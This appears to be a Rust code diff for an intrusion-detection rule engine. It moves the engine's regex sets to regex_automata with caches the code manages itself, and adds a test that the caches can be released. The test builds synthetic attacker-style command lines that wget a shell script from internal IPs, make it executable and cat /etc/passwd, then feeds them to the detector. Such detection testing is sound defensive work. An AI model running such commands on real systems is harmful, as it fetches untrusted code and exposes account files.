@@ -5,9 +5,18 @@
 //! answers for ASCII texts only, so it is compiled without Unicode: on ASCII text Python's
 //! Unicode `\w`, `\b`, `\d`, `\s` and case folding agree with their ASCII forms, and the
 //! ASCII automaton is a fraction of the size (it is most of the idle daemon's heap).
+//!
+//! Each set's lazy DFA cache is ours rather than hidden in a pool: it grows toward its
+//! 2 MiB capacity under varied traffic, which a busy daemon needs and an idle one does not,
+//! so [`PatternEngine::release_caches`] starts it afresh when the daemon goes quiet.
 
+use std::cell::RefCell;
 use std::collections::HashMap;
 use std::sync::Arc;
+
+use regex_automata::meta;
+use regex_automata::util::syntax;
+use regex_automata::{Input, MatchKind, PatternID, PatternSet};
 
 use rustc_hash::FxHashMap;
 use serde_json::{Map, Value};
@@ -73,7 +82,46 @@ struct KindPlan {
     /// The payload fields the kind's rules read, each looked up once per event.
     fields: Vec<String>,
     /// Per field, the set of its rules' patterns (when any can be in a set).
-    sets: Vec<Option<regex::bytes::RegexSet>>,
+    sets: Vec<Option<FieldSet>>,
+}
+
+/// One field's rule set: ASCII patterns compiled together, reporting every member that
+/// matches (what `regex::bytes::RegexSet` does, with the cache in our hands).
+struct FieldSet {
+    regex: meta::Regex,
+    cache: RefCell<meta::Cache>,
+}
+
+impl FieldSet {
+    fn new(sources: &[String]) -> Option<FieldSet> {
+        let regex = meta::Regex::builder()
+            .syntax(syntax::Config::new().unicode(false).utf8(false))
+            .configure(
+                meta::Config::new()
+                    .match_kind(MatchKind::All)
+                    .utf8_empty(false)
+                    .which_captures(regex_automata::nfa::thompson::WhichCaptures::None),
+            )
+            .build_many(sources)
+            .ok()?;
+        let cache = RefCell::new(regex.create_cache());
+        Some(FieldSet { regex, cache })
+    }
+
+    /// The members that match somewhere in `text`.
+    fn matches(&self, text: &str) -> PatternSet {
+        let mut hits = PatternSet::new(self.regex.pattern_len());
+        self.regex.which_overlapping_matches_with(
+            &mut self.cache.borrow_mut(),
+            &Input::new(text.as_bytes()),
+            &mut hits,
+        );
+        hits
+    }
+
+    fn release_cache(&self) {
+        *self.cache.borrow_mut() = self.regex.create_cache();
+    }
 }
 
 /// Compiled engine for every source kind its rules apply to.
@@ -143,12 +191,7 @@ impl PatternEngine {
                     .iter()
                     .map(|sources| {
                         (!sources.is_empty())
-                            .then(|| {
-                                regex::bytes::RegexSetBuilder::new(sources)
-                                    .unicode(false)
-                                    .build()
-                                    .ok()
-                            })
+                            .then(|| FieldSet::new(sources))
                             .flatten()
                     })
                     .collect();
@@ -161,6 +204,26 @@ impl PatternEngine {
             }
         }
         PatternEngine { plans }
+    }
+
+    /// Starts every set's lazy DFA cache afresh, giving back what traffic grew it to.
+    pub fn release_caches(&self) {
+        for set in self
+            .plans
+            .values()
+            .flat_map(|plan| plan.sets.iter().flatten())
+        {
+            set.release_cache();
+        }
+    }
+
+    /// Bytes held by the sets' lazy DFA caches.
+    pub fn cache_bytes(&self) -> usize {
+        self.plans
+            .values()
+            .flat_map(|plan| plan.sets.iter().flatten())
+            .map(|set| set.cache.borrow().memory_usage())
+            .sum()
     }
 
     pub fn handles(&self, source_kind: &str) -> bool {
@@ -182,7 +245,7 @@ impl PatternEngine {
         /// Per field: its text, and the set's verdicts once asked.
         struct Field<'p> {
             text: Option<&'p str>,
-            hits: Option<regex::bytes::SetMatches>,
+            hits: Option<PatternSet>,
         }
         let mut fields: Vec<Field<'_>> = plan
             .fields
@@ -208,8 +271,8 @@ impl PatternEngine {
                 (Some(index), Some(set)) if haystack.is_ascii() && !haystack.ends_with('\n') => {
                     field
                         .hits
-                        .get_or_insert_with(|| set.matches(haystack.as_bytes()))
-                        .matched(index)
+                        .get_or_insert_with(|| set.matches(haystack))
+                        .contains(PatternID::new_unchecked(index))
                 }
                 _ => kr.regex.search(haystack).unwrap_or_else(|_| {
                     *regex_errors += 1;
@@ -389,7 +452,7 @@ mod tests {
                     let (Some(index), Some(set)) = (kr.in_set, &plan.sets[kr.field]) else {
                         continue;
                     };
-                    let from_set = set.matches(text.as_bytes()).matched(index);
+                    let from_set = set.matches(&text).contains(PatternID::new_unchecked(index));
                     let own = kr.regex.search(&text).unwrap_or(false);
                     assert_eq!(from_set, own, "{kind} {} on {text:?}", kr.rule.rule_id);
                     compared += 1;
@@ -398,6 +461,36 @@ mod tests {
             }
         }
         assert!(compared > 100_000 && matched > 300, "{compared} {matched}");
+    }
+
+    /// The sets' caches grow with varied traffic and go back to their fresh size when
+    /// released, and the sets answer the same afterwards.
+    #[test]
+    fn released_caches_start_afresh_and_answer_the_same() {
+        let mut set = RuleSet::default();
+        builtin::add_rules(&mut set);
+        let engine = PatternEngine::new(&set.rules);
+        let fresh = engine.cache_bytes();
+        let texts: Vec<String> = (0..3000)
+            .map(|i| format!("cd /tmp/{i}; wget http://10.0.{}.{}/x{i}.sh; chmod +x x; uname -a; cat /etc/passwd | grep {i}", i % 7, i % 251))
+            .collect();
+        let fire = |text: &str| {
+            let mut payload = Map::new();
+            payload.insert("command_text".into(), Value::String(text.to_owned()));
+            engine
+                .evaluate("command", &payload, 0.0, &mut 0)
+                .iter()
+                .map(|f| f.rule.rule_id.clone())
+                .collect::<Vec<_>>()
+        };
+        let before: Vec<_> = texts.iter().map(|t| fire(t)).collect();
+        let grown = engine.cache_bytes();
+        assert!(grown > fresh, "{grown} after traffic, {fresh} fresh");
+        engine.release_caches();
+        assert_eq!(engine.cache_bytes(), fresh);
+        let after: Vec<_> = texts.iter().map(|t| fire(t)).collect();
+        assert_eq!(before, after);
+        assert!(before.iter().any(|fired| fired.len() >= 3));
     }
 
     /// A pattern whose Unicode case folding reaches ASCII from outside it stays out of the
